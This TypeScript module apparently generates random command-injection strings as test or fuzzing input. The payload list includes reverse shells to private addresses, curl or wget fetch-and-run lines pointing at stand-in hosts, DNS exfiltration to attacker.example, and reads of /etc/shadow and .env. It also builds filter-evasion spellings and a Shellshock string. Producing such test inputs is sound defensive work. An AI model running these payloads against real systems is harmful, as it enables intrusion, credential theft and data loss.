// Command injection by its grammar: a separator or a substitution, a command with its arguments, and spellings a shell undoes.
import type { Random } from '../random.ts';

const PREFIXES = ['', '', '127.0.0.1', '1', 'example.com', 'x.jpg', "'", '"', ')', 'a@example.com'];
const READ = [
  '/etc/passwd',
  '/etc/shadow',
  '/etc/hosts',
  '/proc/self/environ',
  '/var/log/auth.log',
  'config.php',
  '../../.env',
];

function command(r: Random): string {
  return r.pick([
    () =>
      r.pick([
        'whoami',
        'uname -a',
        'ifconfig',
        'ipconfig /all',
        'netstat -an',
        'id',
        'printenv',
        'systeminfo',
        'tasklist',
        'hostname',
        'ps aux',
        'ls -la',
        'pwd',
      ]),
    () => `cat ${r.pick(READ)}`,
    () => `${r.pick(['head', 'tail', 'more', 'tac', 'nl'])} ${r.pick(READ)}`,
    () => `sleep ${r.integer(3, 20)}`,
    () => `ping -${r.pick(['c', 'n'])} ${r.integer(2, 30)} 127.0.0.1`,
    () => `curl http://${r.word()}.example/x.sh|sh`,
    () => `wget -qO- http://10.0.0.${r.integer(1, 9)}/a | bash`,
    () => `nslookup ${r.word()}.attacker.example`,
    () => `nc -e /bin/sh 10.1.2.${r.integer(1, 9)} 4444`,
    () => `bash -i >& /dev/tcp/10.0.0.${r.integer(1, 9)}/443 0>&1`,
    () => `python3 -c 'import os;os.system("id")'`,
    () => `perl -e 'print 42'`,
    () => `powershell -enc ${Buffer.from(`whoami ${r.word()}`, 'utf16le').toString('base64')}`,
    () => `cmd /c dir C:\\`,
    () => `net user ${r.word()} /add`,
    () => `echo $((${r.integer(10, 99)}*7))`,
    () => `/bin/cat ${r.pick(READ)}`,
    () => `/usr/bin/id`,
    () => `find / -name '*.pem'`,
    () => `rm -rf /tmp/${r.word()}`,
    () => `type C:\\windows\\win.ini`,
  ])();
}

export function shellAttack(r: Random): string {
  const prefix = r.pick(PREFIXES);
  const line = command(r);
  const text = r.pick([
    () =>
      `${prefix}${r.pick([';', '|', '||', '&&', '&', '; ', ' | ', ' && '])}${line}${r.pick(['', '', ';', '#', ' #', '&', '|'])}`,
    () => `${prefix}$(${line})`,
    () => `${prefix}\`${line}\``,
    () =>
      `${prefix}\n${r.pick(['cat /etc/passwd', '/bin/cat /etc/passwd', 'whoami', 'uname -a', 'curl http://a.example/x'])}\n`,
    () => `;cat\${IFS}${r.pick(READ)}`,
    () => `;{cat,${r.pick(READ)}}`,
    () => `;c'a't /e't'c/pa's'swd`,
    () => `;c\\at /etc/pas\\swd`,
    () => `;cat$IFS$9/etc/passwd`,
    () => ';/???/c?t /???/p??s??',
    () => ';w`u`hoami||whoami',
    () => ';who$@ami',
    () => '() { :; }; /bin/bash -c "id"',
    () => `;echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|bash`,
    () => `|echo ${r.word()}|rev`,
    () => `cat ${r.pick(['/etc/passwd', '/etc/shadow', '/etc/hosts'])}`,
  ])();
  return text;
}
